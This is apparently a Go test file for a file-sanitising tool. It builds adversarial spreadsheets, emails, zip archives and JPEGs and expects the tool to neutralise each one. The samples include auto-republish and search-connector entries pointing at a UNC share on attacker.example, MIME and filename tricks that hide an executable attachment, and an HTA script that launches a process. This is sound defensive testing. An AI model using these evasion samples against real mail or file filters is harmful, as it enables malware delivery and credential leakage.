		{"xlsx/web-publish-to-share", "a.xlsx", "", xlsx(book{wb: `<webPublishObjects count="1"><webPublishObject id="1" divId="x" destinationFile="\\attacker.example\s\y.htm" autoRepublish="1"/></webPublishObjects>`,
			tail: `<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="\\attacker.example\s\x.htm" autoRepublish="1"/></webPublishItems>`}), "safe", ""},
	}
	runCases(t, cases)
}

// TestReadersMailAndNames: MIME that readers repair, and names that Windows normalises
// into executables when it writes the file.
func TestReadersMailAndNames(t *testing.T) {
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), make([]byte, 100)...)
	attNamed := func(disp string) string {
		return "Content-Type: application/octet-stream\r\nContent-Disposition: " + disp + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64lines(exe)
	}
	hdr := "From: a@example.invalid\r\nTo: b@example.invalid\r\nSubject: test\r\nDate: Wed, 25 Nov 2026 10:00:00 +0900\r\nMessage-ID: <x@example.invalid>\r\nMIME-Version: 1.0\r\n"
	raw := func(s string) []byte { return []byte(hdr + s) }
	exePart := attNamed(`attachment; filename="x.exe"`)
	ok := zipEntry{"readme.txt", "hello"}
	cases := []advCase{
		{"mail/encoded-word-filename", "a.eml", "", eml(attNamed(`attachment; filename="=?utf-8?B?aW52b2ljZS5leGU=?="`)), "safe", ""},
		{"mail/encoded-word-split-filename", "a.eml", "", eml(attNamed(`attachment; filename="=?utf-8?Q?invoice=2Eex?= =?utf-8?Q?e?="`)), "safe", ""},
		{"mail/rfc2231-beside-plain-filename", "a.eml", "", eml(attNamed(`attachment; filename*0*=utf-8''inv; filename*1=oice.ex; filename*2=e; filename=invoice.pdf`)), "safe", ""},
		{"mail/rfc2231-out-of-order", "a.eml", "", eml(attNamed(`attachment; filename*1=.exe; filename*0=invoice`)), "safe", ""},
		{"mail/boundary-given-twice", "a.eml", "", raw("Content-Type: multipart/mixed; boundary=\"a\"; boundary=\"b\"\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\n" + exePart + "\r\n--b--\r\n--a--\r\n"), "safe", ""},
		{"mail/boundary-prefix-of-inner", "a.eml", "", raw("Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: multipart/mixed; boundary=\"ab\"\r\n\r\n--ab\r\nContent-Type: text/plain\r\n\r\nhi\r\n--ab\r\n" + exePart + "\r\n--ab--\r\n--a--\r\n"), "safe", ""},
		{"mail/boundary-in-comment", "a.eml", "", raw("Content-Type: multipart/mixed (c; boundary=zz); boundary=\"b\"\r\n\r\n--zz\r\n" + exePart + "\r\n--zz--\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n"), "safe", ""},
		{"mail/part-in-preamble", "a.eml", "", raw("Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n" + exePart + "\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n"), "safe", ""},
		{"mail/part-in-epilogue", "a.eml", "", raw("Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n--b\r\n" + exePart + "\r\n--b--\r\n"), "safe", ""},
		{"mail/rfc822-in-base64", "a.eml", "", eml("Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64lines([]byte("Content-Type: multipart/mixed; boundary=\"c\"\r\n\r\n--c\r\n"+exePart+"\r\n--c--\r\n"))), "safe", ""},
		// Text whose decoded lines repeat the message's boundary: re-encoded as 7bit or
		// 8bit with the same boundary, they would start new parts.
		{"mail/boundary-inside-base64-text", "a.eml", "", raw("Content-Type: multipart/mixed; boundary=\"BB\"\r\n\r\n--BB\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64lines([]byte("hello\r\n--BB\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--BB\r\n"+exePart+"\r\n--BB--\r\n")) + "\r\n--BB--\r\n"), "safe", ""},
		{"mail/boundary-inside-qp-text", "a.eml", "", raw("Content-Type: multipart/alternative; boundary=\"BB\"\r\n\r\n--BB\r\nContent-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nhello\r\n=2D-BB\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--BB--\r\n"), "safe", ""},
		{"mail/transfer-encoding-twice", "a.eml", "", eml("Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"a.pdf\"\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64lines(exe)), "safe", ""},
		{"mail/begin-base64-in-text", "a.eml", "", raw("Content-Type: text/plain\r\n\r\nhello\r\nbegin-base64 644 x.exe\r\n" + b64lines(exe) + "\r\n====\r\n"), "safe", ""},
		{"mail/text-part-named-hta", "a.eml", "", eml("Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"x.hta\"\r\n\r\n<script>new ActiveXObject(\"WScript.Shell\").Run(\"calc\")</script>"), "safe", ""},
		{"zip/trailing-dot-exe", "a.zip", "", mkzip(t, ok, zipEntry{"setup.exe.", "hello"}), "safe", ""},
		{"zip/trailing-space-exe", "a.zip", "", mkzip(t, ok, zipEntry{"setup.exe ", "hello"}), "safe", ""},
		{"zip/stream-suffix-exe", "a.zip", "", mkzip(t, ok, zipEntry{"setup.exe::$DATA", "hello"}), "safe", ""},
		{"zip/short-name-exe", "a.zip", "", mkzip(t, ok, zipEntry{"SETUP~1.EXE", "hello"}), "safe", ""},
		{"zip/zero-width-before-exe", "a.zip", "", mkzip(t, ok, zipEntry{"invoice.pdf\u200b.exe", "hello"}), "safe", ""},
		{"zip/cyrillic-e-in-exe", "a.zip", "", mkzip(t, ok, zipEntry{"setup.ex\u0435", "hello"}), "safe", ""},
		{"zip/search-connector", "a.zip", "", mkzip(t, ok, zipEntry{"x.searchConnector-ms", `<?xml version="1.0"?><searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><simpleLocation><url>\\attacker.example\share</url></simpleLocation></searchConnectorDescription>`}), "safe", ""},
		{"zip/reserved-device-name", "a.zip", "", mkzip(t, ok, zipEntry{"con.txt", "hello"}), "safe", ""},
	}
	runCases(t, cases)
}

// TestReadersJPEG: every sampling factor ImageMagick writes, fill bytes, segments after the
// scan and truncated scans. A delivered output must decode, carry nothing after its end
// marker and no byte of the marker the input hid in a comment or after the scan. (No tool
// here writes restart intervals: ImageMagick 6 ignores jpeg:restart-interval.)
func TestReadersJPEG(t *testing.T) {
	convert := testtool.Need(t, "convert")
	src := image.NewRGBA(image.Rect(0, 0, 67, 45))
	for y := range 45 {
		for x := range 67 {
			src.Pix[(y*67+x)*4], src.Pix[(y*67+x)*4+1], src.Pix[(y*67+x)*4+2], src.Pix[(y*67+x)*4+3] = uint8(x*3), uint8(y*5), uint8(x*y), 255
		}
	}
	var seed bytes.Buffer
	if err := jpeg.Encode(&seed, src, &jpeg.Options{Quality: 95}); err != nil {
		t.Fatal(err)
	}
	jpg := func(sampling string) []byte {
		cmd := exec.Command(convert, "jpg:-", "-sampling-factor", sampling, "-comment", decoderMarker, "jpg:-")
		cmd.Stdin = bytes.NewReader(seed.Bytes())
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("convert -sampling-factor %s: %v", sampling, err)
		}
		return out
	}
	base := jpg("2x2")
	sos := bytes.Index(base, []byte{0xff, 0xda})
	eoi := bytes.LastIndex(base, []byte{0xff, 0xd9})
	if sos < 0 || eoi < sos {
		t.Fatal("convert wrote no scan")
	}
	splice := func(at int, s string) []byte {
		return append(append(append([]byte{}, base[:at]...), s...), base[at:]...)
	}
	var cases []advCase
	for _, s := range []string{"1x1", "2x1", "1x2", "2x2", "4x1", "4x2", "1x4", "3x1"} {
		cases = append(cases, advCase{"image/jpeg-sampling-" + s, "a.jpg", "", jpg(s), "safe", ""})
	}
	cases = append(cases,
		advCase{"image/jpeg-fill-bytes-before-end", "a.jpg", "", splice(eoi, strings.Repeat("\xff", 20)), "safe", ""},
		advCase{"image/jpeg-app-segment-after-scan", "a.jpg", "", splice(eoi, "\xff\xe1\x00\x18"+decoderMarker), "safe", ""},
		advCase{"image/jpeg-truncated-scan", "a.jpg", "", append(append([]byte{}, base[:sos+(eoi-sos)/2]...), 0xff, 0xd9), "safe", ""},
		advCase{"image/jpeg-truncated-without-end", "a.jpg", "", base[:sos+(eoi-sos)/2], "safe", ""},
	)
	runCases(t, cases)
}
